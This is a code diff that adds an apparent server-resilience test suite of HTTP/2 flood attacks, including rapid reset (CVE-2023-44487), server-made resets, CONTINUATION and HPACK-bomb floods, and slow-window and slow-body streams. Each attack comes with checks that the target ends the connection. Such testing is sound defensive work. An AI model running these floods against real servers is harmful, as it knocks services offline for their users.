@@ -1,0 +1,194 @@
+// HTTP/2 connections made of what the protocol allows and no visitor needs. The honest visitors speak HTTP/1.1 to the same port.
+
+import type { Attack, Evidence } from '../hostile/attack.ts'
+import {
+  block,
+  CONTINUATION,
+  DATA,
+  END_HEADERS,
+  END_STREAM,
+  floods,
+  frame,
+  HEADERS,
+  literal,
+  PING,
+  RST_STREAM,
+  SETTINGS,
+  u32,
+  WINDOW_UPDATE,
+} from '../hostile/http2.ts'
+
+const BATCH = 100
+const CONNECTIONS = 20
+const many = (make: (index: number) => Buffer): Buffer =>
+  Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(i)))
+
+/** A smoke run of a second on a busy machine proves nothing. */
+const JUDGED_SECONDS = 3
+/** A flood has to end its own connection; who reads nothing does not see that. */
+const mustEnd = ({ tally, seconds }: Evidence): readonly string[] =>
+  seconds < JUDGED_SECONDS || (tally.ended ?? 0) > 0 ? [] : ['no connection was ended']
+
+/** An address may have 1,000 requests given up at the beginning of each second, and for each its app is dialled. */
+const BURST = { p99Ms: 500 }
+
+/** Each batch is the same frames, on no stream or always the same one. */
+const same = (bytes: Buffer) => (stream: number) => ({ bytes, next: stream })
+
+export const attacks: readonly Attack[] = [
+  {
+    name: 'h2-rapid-reset',
+    does: `${CONNECTIONS} connections: requests, each reset at once (CVE-2023-44487)`,
+    isTls: true,
+    bounds: BURST,
+    attack: (target, ...rest) => {
+      const head = block(target, 'GET', '/bytes/1')
+      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+        bytes: many(i =>
+          Buffer.concat([
+            frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head),
+            frame(RST_STREAM, 0, stream + 2 * i, u32(8)),
+          ]),
+        ),
+        next: stream + 2 * BATCH,
+      }))
+    },
+    judge: mustEnd,
+  },
+  {
+    name: 'h2-made-resets',
+    does: `${CONNECTIONS} connections: requests that the server has to reset (CVE-2025-8671)`,
+    isTls: true,
+    bounds: BURST,
+    attack: (target, ...rest) => {
+      const head = block(target, 'GET', '/bytes/1')
+      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+        bytes: many(i =>
+          Buffer.concat([
+            frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head),
+            frame(WINDOW_UPDATE, 0, stream + 2 * i, u32(0)),
+          ]),
+        ),
+        next: stream + 2 * BATCH,
+      }))
+    },
+    judge: mustEnd,
+  },
+  {
+    name: 'h2-continuation',
+    does: `${CONNECTIONS} connections: a head that goes on in CONTINUATION frames and never ends`,
+    isTls: true,
+    attack: (target, ...rest) => {
+      const piece = frame(CONTINUATION, 0, 1, literal('x', 'y'.repeat(100)))
+      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+        bytes: Buffer.concat([
+          ...(stream === 1 ? [frame(HEADERS, END_STREAM, 1, block(target, 'GET', '/'))] : []),
+          many(() => piece),
+        ]),
+        next: 3,
+      }))
+    },
+    judge: mustEnd,
+  },
+  {
+    name: 'h2-settings',
+    does: `${CONNECTIONS} connections: SETTINGS frames, none of whose acknowledgements is read`,
+    isTls: true,
+    attack: (...all) => floods(CONNECTIONS, all, { reads: false }, same(many(() => frame(SETTINGS, 0, 0)))),
+  },
+  {
+    name: 'h2-pings',
+    does: `${CONNECTIONS} connections: PING frames, none of whose answers is read`,
+    isTls: true,
+    attack: (...all) =>
+      floods(CONNECTIONS, all, { reads: false }, same(many(() => frame(PING, 0, 0, 'pingping')))),
+  },
+  {
+    name: 'h2-empty-frames',
+    does: `${CONNECTIONS} connections: a request body of empty DATA frames`,
+    isTls: true,
+    attack: (target, ...rest) =>
+      floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+        bytes: Buffer.concat([
+          ...(stream === 1 ? [frame(HEADERS, END_HEADERS, 1, block(target, 'POST', '/echo'))] : []),
+          many(() => frame(DATA, 0, 1)),
+        ]),
+        next: 3,
+      })),
+    judge: mustEnd,
+  },
+  {
+    name: 'h2-hpack-bombs',
+    does: `${CONNECTIONS} connections: heads of 4,000 references to one field of 4,000 bytes`,
+    isTls: true,
+    attack: (target, ...rest) => {
+      const value = Buffer.alloc(3_900, 'x')
+      // With indexing: name `b`, and a length of 3,900 as an integer of seven bits.
+      const entry = Buffer.concat([Buffer.from([0x40, 1, 0x62, 127, ...varint(3_900 - 127)]), value])
+      const plain = block(target, 'GET', '/bytes/1')
+      const bomb = Buffer.concat([plain, Buffer.alloc(4_000, 0x80 | 62)])
+      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+        bytes: Buffer.concat(
+          Array.from({ length: 10 }, (_, i) =>
+            frame(
+              HEADERS,
+              END_HEADERS | END_STREAM,
+              stream + 2 * i,
+              stream + i === 1 ? Buffer.concat([plain, entry]) : bomb,
+            ),
+          ),
+        ),
+        next: stream + 20,
+      }))
+    },
+    judge: mustEnd,
+  },
+  {
+    name: 'h2-tiny-windows',
+    does: `${CONNECTIONS} connections with windows of a byte that ask for 100 large answers and take them a byte at a time`,
+    isTls: true,
+    attack: (target, ...rest) => {
+      const head = block(target, 'GET', '/bytes/1000000')
+      const windowOfOne = Buffer.concat([Buffer.from([0, 4]), u32(1)])
+      return floods(
+        CONNECTIONS,
+        [target, ...rest],
+        { settings: windowOfOne },
+        stream => ({
+          bytes:
+            stream === 1
+              ? many(i => frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, head))
+              : many(i => frame(WINDOW_UPDATE, 0, 1 + 2 * i, u32(1))),
+          next: 3,
+        }),
+        20,
+      )
+    },
+  },
+  {
+    name: 'h2-slow-streams',
+    does: `${CONNECTIONS} connections with 100 request bodies each that drip`,
+    isTls: true,
+    attack: (target, ...rest) => {
+      const head = block(target, 'POST', '/echo')
+      return floods(
+        CONNECTIONS,
+        [target, ...rest],
+        {},
+        stream => ({
+          bytes:
+            stream === 1
+              ? many(i => frame(HEADERS, END_HEADERS, 1 + 2 * i, head))
+              : frame(DATA, 0, 1 + 2 * (stream % BATCH), 'x'),
+          next: stream + 2,
+        }),
+        100,
+      )
+    },
+  },
+]
+
+/** The rest of an integer of HPACK behind a full prefix. */
+function varint(value: number): number[] {
+  return value < 128 ? [value] : [(value & 127) | 128, ...varint(value >>> 7)]
+}
